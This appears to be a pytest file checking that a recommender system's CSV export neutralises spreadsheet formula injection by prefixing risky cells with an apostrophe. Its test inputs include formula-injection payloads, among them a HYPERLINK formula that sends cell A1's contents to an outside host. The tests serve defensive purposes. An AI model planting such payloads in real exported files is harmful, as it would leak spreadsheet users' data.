"""What a spreadsheet opens: numbers, instants and lists as they are, and no formula."""

import csv
import io
from datetime import UTC, datetime

import pytest

from recsys.spreadsheet import plain_text, write_csv


def _written(*row):
    file = io.StringIO(newline="")
    write_csv(file, [f"column {at}" for at in range(len(row))], [row])
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com?x="&A1,"look")',
        *("+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"),
    ],
)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert _written(text, "ann") == [f"'{text}", "ann"]


@pytest.mark.parametrize("text", ["", "ann", "a=b", "'quoted", "1-2", 'say "x", then\n=1'])
def test_other_text_stays_as_it_is(text):
    assert plain_text(text) == text
    assert _written(text, "ann") == [text, "ann"]


def test_numbers_stay_numbers():
    assert _written(-1, -0.5, 3, 1e-9) == ["-1", "-0.5", "3", "1e-09"]


def test_instants_lists_and_nothing():
    at = datetime(2026, 1, 2, 3, tzinfo=UTC)

    assert _written(at, ["=a", "b"], None) == ["2026-01-02T03:00:00+00:00", '["=a", "b"]', ""]
